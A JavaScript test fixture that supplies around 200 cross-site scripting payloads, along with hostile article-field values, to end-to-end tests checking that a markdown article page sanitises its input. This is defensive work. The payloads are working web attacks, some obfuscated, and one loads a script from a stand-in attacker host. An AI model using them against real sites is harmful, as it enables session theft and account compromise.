// Hostile markdown for the article body: what a compromised or careless backend could send. Each
// payload that could run code calls window.__xss(<its index>), so a test that sees the call knows
// which payload got through; a few call alert() and friends as a real attack would.
// Used by tests/support/fake-backend.mjs (slugs xss-0 … xss-N) and tests/e2e/xss.spec.ts.

/** Base64 for data: URLs, so the payload survives markdown's rules for link destinations. */
const b64 = (text) => Buffer.from(text, "utf8").toString("base64");

/**
 * One entry per payload. In strings, $X stands for `__xss(<index>)` and $N for the index; a function
 * gets the index. Reference labels use $N so that they stay unique in an article holding many payloads.
 * @type {Array<string | ((n: number) => string)>}
 */
const templates = [
  // <script> in raw HTML, plain and disguised.
  "<script>$X</script>",
  "<SCRIPT>$X</SCRIPT>",
  '<script type="module">$X</script>',
  "<script>alert(document.domain)</script>",
  (n) => `<script src="data:text/javascript;base64,${b64(`__xss(${n})`)}"></script>`,
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>$X</scr</script>ipt>",
  "<<script>$X//<</script>",
  '"><script>$X</script>',
  "</div></article></main><script>$X</script>",
  "<script>/*</script><script>*/$X</script>",
  "<script\n>$X</script\n>",
  "<svg><script>$X</script></svg>",
  '<svg><script xlink:href="data:,$X"></script></svg>',

  // Event-handler attributes in raw HTML.
  "<img src=x onerror=$X>",
  '<img src="x" onerror="$X">',
  "<IMG SRC=x ONERROR=$X>",
  "<img src=x oNeRrOr=alert(1)>",
  "<img/src=x/onerror=$X>",
  "<img src=x onerror\n=$X>",
  '<img src=x onerror="&#95;&#95;xss($N)">',
  (n) => `<img src=x onerror="eval(atob('${b64(`__xss(${n})`)}'))">`,
  "<body onload=$X>",
  "<svg onload=$X>",
  "<svg/onload=$X>",
  '<div onmouseover="$X">hover me</div>',
  '<a onclick="$X" href="#">click me</a>',
  '<a href="https://example.org/" onclick="$X">a good link with a handler</a>',
  "<input autofocus onfocus=$X>",
  "<select autofocus onfocus=$X></select>",
  "<textarea autofocus onfocus=$X></textarea>",
  "<details open ontoggle=$X><summary>x</summary></details>",
  "<video><source onerror=$X></video>",
  "<audio src=x onerror=confirm(1)>",
  "<marquee onstart=$X>scroll</marquee>",
  "<style onload=$X></style>",
  '<p title="</p><img src=x onerror=$X>">quoted breakout</p>',
  "<img src=x onerror=$X\u2028>",

  // javascript:, data:, vbscript: in markdown links.
  "[click](javascript:$X)",
  "[click](JaVaScRiPt:$X)",
  "[click](javascript:alert(1))",
  "[click](javascript:void(0);prompt(1))",
  '[click](javascript:$X "a title")',
  "[click](<javascript:$X>)",
  "[click]( javascript:$X )",
  "[click](javascript://%0a$X)",
  "[click](javascript://example.org/%0A$X)",
  "[click](javascript:window['__x'+'ss']($N))",
  "[click](javascript\\:$X)",
  "[click](vbscript:$X)",
  "[click](VBScript:MsgBox($N))",
  "[click](data:text/html,<script>$X</script>)",
  (n) => `[click](data:text/html;base64,${b64(`<script>parent.__xss(${n})</script>`)})`,
  "[![an image](https://example.org/x.png)](javascript:$X)",
  "[a](javascript:$X)[b](https://example.org/)",

  // Entity- and whitespace-obfuscated schemes.
  "[click](&#106;avascript:$X)",
  "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;$X)",
  "[click](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58$X)",
  "[click](javascript&colon;$X)",
  "[click](javascript&#58;$X)",
  "[click](javascript&#x3a;$X)",
  "[click](jav&#x09;ascript:$X)",
  "[click](jav&#x0A;ascript:$X)",
  "[click](&#x20;javascript:$X)",
  "[click](&#1;javascript:$X)",
  "[click](<java\tscript:$X>)",
  "[click](java\u0000script:$X)",
  "[click](%6A%61%76%61%73%63%72%69%70%74:$X)",
  "[click](javascript\u2028:$X)",
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$X">entities</a>',
  '<a href=" javascript:$X">leading space</a>',
  '<a href="jav&#x0A;ascript:$X">newline entity</a>',
  '<a href="javas&#x09;cript:$X">tab entity</a>',
  '<a\nhref="javascript:$X">split tag</a>',

  // Images.
  "![x](javascript:$X)",
  "![x](JaVaScRiPt:$X)",
  "![x](&#106;avascript:$X)",
  "![x](<javascript:$X>)",
  "![x](vbscript:$X)",
  (n) =>
    `![x](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss(${n})"/>`)})`,
  '![x"onerror="$X](https://example.org/x.png)',
  '![x](https://example.org/x.png"onerror="$X)',
  '![x](https://example.org/x.png "t\\" onerror=\\"$X")',
  "![<img src=x onerror=$X>](https://example.org/x.png)",

  // Reference-style links and images.
  "[a reference][r$N]\n\n[r$N]: javascript:$X",
  '[a reference][r$N]\n\n[r$N]: javascript:$X "title"',
  "[a reference][r$N]\n\n[r$N]: <javascript:$X>",
  "[r$N]\n\n[r$N]: &#106;avascript:$X",
  "[r$N][]\n\n[r$N]: JAVASCRIPT:$X",
  "[a reference][r$N]\n\n[R$N]:\n  javascript:$X",
  "![a reference][r$N]\n\n[r$N]: javascript:$X",
  "[a reference][r$N]\n\n[r$N]: vbscript:$X",
  (n) => `[a reference][r${n}]\n\n[r${n}]: data:text/html;base64,${b64(`<script>parent.__xss(${n})</script>`)}`,

  // Autolinks.
  "<javascript:$X>",
  "<JAVASCRIPT:alert(1)>",
  "<vbscript:$X>",
  (n) => `<data:text/html;base64,${b64(`<script>parent.__xss(${n})</script>`)}>`,
  '<https://example.org/"onmouseover="$X">',
  '<mailto:someone@example.org?subject="><script>$X</script>>',
  "javascript:$X",
  "www.example.org/<script>$X</script>",

  // SVG and MathML.
  '<svg><a xlink:href="javascript:$X"><text x="20" y="20">tap</text></a></svg>',
  '<svg><image href="x" onerror="$X"/></svg>',
  "<svg><animate onbegin=$X attributeName=x dur=1s></svg>",
  '<svg><set attributeName="onmouseover" to="$X"/></svg>',
  '<svg><foreignObject><iframe src="javascript:$X"></iframe></foreignObject></svg>',
  '<math href="javascript:$X">CLICK</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:$X">x</maction></math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=$X>",
  '<svg></p><style><a id="</style><img src=x onerror=$X>">',

  // Frames, objects, forms and other active elements.
  '<iframe src="javascript:$X"></iframe>',
  '<iframe srcdoc="<script>parent.$X</script>"></iframe>',
  '<iframe src="data:text/html,<script>parent.$X</script>"></iframe>',
  "<iframe onload=$X></iframe>",
  '<object data="javascript:$X"></object>',
  (n) => `<object data="data:text/html;base64,${b64(`<script>parent.__xss(${n})</script>`)}"></object>`,
  "<object data=x onerror=$X></object>",
  '<embed src="javascript:$X">',
  '<form action="javascript:$X"><input type="submit" value="send"></form>',
  '<form><button formaction="javascript:$X">go</button></form>',
  '<base href="javascript:$X//">',
  '<link rel="stylesheet" href="javascript:$X">',
  '<meta http-equiv="refresh" content="0;url=javascript:$X">',
  "<template><img src=x onerror=$X></template>",

  // Style and expression().
  "<style>@import 'javascript:$X';</style>",
  '<style>body{background:url("javascript:$X")}</style>',
  '<div style="width:expression($X)">expression</div>',
  '<div style="background-image:url(javascript:$X)">background</div>',
  '<x style="behavior:url(#default#time2)" onbegin="$X">behaviour</x>',
  "<svg><style><img src=x onerror=$X></style></svg>",

  // Things that look like template injection; they must stay text.
  "{{constructor.constructor('$X')()}}",
  "${$X}",
  "{{7*7}} {{$X}}",
  "<%= $X %>",
  "#{$X}",
  "{$X}",
  '{{__html: "<img src=x onerror=$X>"}}',
  "dangerouslySetInnerHTML={{__html:'<img src=x onerror=$X>'}}",

  // Broken, nested and mutation-prone markup.
  '<img src="x" onerror="$X"',
  '<a href="javascript:$X"',
  "<<img src=x onerror=$X>>",
  "<img src=x onerror=$X//",
  "<div><div><div><img src=x onerror=$X></div>",
  "<!--><img src=x onerror=$X>-->",
  "<!-- --!><img src=x onerror=$X> -->",
  "<![CDATA[><img src=x onerror=$X>]]>",
  '<?xml version="1.0"?><img src=x onerror=$X>',
  "<!DOCTYPE html><img src=x onerror=$X>",
  "<title><img src=x onerror=$X></title>",
  "<textarea></textarea><img src=x onerror=$X>",
  "<xmp><img src=x onerror=$X></xmp>",
  '<noscript><p title="</noscript><img src=x onerror=$X>"></noscript>',
  "<noembed><img src=x onerror=$X></noembed>",
  "<plaintext><img src=x onerror=$X>",
  '<img """><script>$X</script>">',
  "<div>\n\n[inside raw HTML](javascript:$X)\n\n</div>",
  "`<img src=x onerror=$X>`",
  "```html\n<script>$X</script>\n```",
  "```\n</code></pre><script>$X</script>\n```",
  "**<img src=x onerror=$X>**",
  "# <script>$X</script>",
  "> <img src=x onerror=$X>",
  "- [a list item](javascript:$X)",
  "| a |\n|---|\n| <img src=x onerror=$X> |",
  "[<img src=x onerror=$X>](https://example.org/)",
  '[x](https://example.org/ "<img src=x onerror=$X>")',
  '[x](#" onclick="$X)',
  "\\<script\\>$X\\</script\\>",
  "&lt;script&gt;$X&lt;/script&gt;",
  "&#60;img src=x onerror=$X&#62;",
  "\uFF1Cscript\uFF1E$X\uFF1C/script\uFF1E",
  // Unclosed at the end: swallows what follows unless the article isolates each payload.
  "```\n<script>$X</script>",
  "<script>$X",
];

/** The payloads, ready to put in an article body. */
export const xssPayloads = templates.map((template, n) =>
  typeof template === "function" ? template(n) : template.split("$X").join(`__xss(${n})`).split("$N").join(String(n)),
);

/**
 * Payloads in the other fields of an article: title, description, date, keywords and the two links.
 * They end up in <title>, meta tags, JSON-LD, the hero image and its link, the video and the chips.
 */
export const xssFieldPayloads = {
  metaTitle: '</title><script>__xss("title")</script><img src=x onerror=__xss("title")> & "quotes"',
  metaDescription: '"><script>__xss("description")</script></script><img src=x onerror=__xss("description")>',
  date: '<img src=x onerror=__xss("date")>',
  blog: "An article whose other fields are hostile.",
  pinterestImageLink: 'javascript:__xss("image")',
  youtubeShortsUrl: 'javascript:__xss("video")//www.youtube.com/shorts/abc_DEF-123',
  shortTailKeywords: '<img src=x onerror=__xss("keyword")>, </script><script>__xss("keyword")</script>',
  longTailKeywords: 'javascript:__xss("keyword"), {{constructor.constructor("__xss(\'keyword\')")()}}',
};
